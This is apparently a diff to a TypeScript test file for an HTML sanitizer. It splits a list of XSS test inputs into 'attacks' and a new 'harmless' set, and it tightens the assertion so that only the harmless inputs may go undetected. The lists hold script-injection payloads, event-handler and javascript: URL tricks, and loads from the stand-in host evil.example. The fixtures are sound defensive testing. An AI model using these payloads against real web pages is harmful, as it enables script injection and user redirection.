@@ -46,6 +46,18 @@ const strangeIn = (html: string): string[] => {
   return [true, false].flatMap(scriptingEnabled => walk(parseFragment(html, { scriptingEnabled })))
 }
 
+/** Looks dangerous, but a browser only shows it, drops it, or goes where the address openly says. */
+const harmless = [
+  '<a href="/.//evil.example">x</a>',
+  '<a href="/x/..//evil.example">x</a>',
+  '<a href="https://user:pass@evil.example/">x</a>',
+  '<a href="https://shop.example@evil.example/">x</a>',
+  '<body onload=alert(1)><html onclick=alert(1)>',
+  '<a href="/search?keyword=&quot;><script>alert(1)</script>">x</a>',
+  `<img src="${own}" alt="&quot;><script>alert(1)</script>" width=10 height=10>`,
+  '&lt;script&gt;alert(1)&lt;/script&gt;',
+]
+
 const attacks = [
   '<script>alert(1)</script>',
   '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
@@ -69,10 +81,6 @@ const attacks = [
   '<a href="//evil.example">x</a>',
   '<a href="/\\evil.example">x</a>',
   '<a href="/\t/evil.example">x</a>',
-  '<a href="/.//evil.example">x</a>',
-  '<a href="/x/..//evil.example">x</a>',
-  '<a href="https://user:pass@evil.example/">x</a>',
-  '<a href="https://shop.example@evil.example/">x</a>',
   '<a href="tel:1;alert(1)">x</a>',
   '<a href="mailto:a@b.cn?body=<script>alert(1)</script>">x</a>',
   '<a href="https://a.example" target="_top" rel="opener" ping="https://evil.example">x</a>',
@@ -109,7 +117,6 @@ const attacks = [
   '<base href="https://evil.example/"><a href="page">x</a>',
   '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
   '<link rel=stylesheet href="https://evil.example/x.css">',
-  '<body onload=alert(1)><html onclick=alert(1)>',
   '<details open ontoggle=alert(1)><marquee onstart=alert(1)>x',
   '<video><source onerror=alert(1)></video><audio src=x onerror=alert(1)>',
   '<!-- --!> <img src=x onerror=alert(1)> -->',
@@ -120,14 +127,11 @@ const attacks = [
   '<p/onclick=alert(1)/x><p onclick\n=alert(1)>x',
   '<custom-element onclick=alert(1) is=x>x</custom-element>',
   '<plaintext><img src=x onerror=alert(1)>',
-  '<a href="/search?keyword=&quot;><script>alert(1)</script>">x</a>',
-  `<img src="${own}" alt="&quot;><script>alert(1)</script>" width=10 height=10>`,
-  '&lt;script&gt;alert(1)&lt;/script&gt;',
+  ...harmless,
 ]
 
-test('the list sees what is wrong with them', () => {
-  const seen = attacks.filter(attack => strangeIn(attack).length > 0)
-  expect(attacks.length - seen.length).toBeLessThan(6)
+test('the list sees what is wrong with every attack that a browser would act upon', () => {
+  expect(attacks.filter(attack => strangeIn(attack).length === 0)).toEqual(harmless)
 })
 
 describe('nothing outside the allow-list is left of', () => {
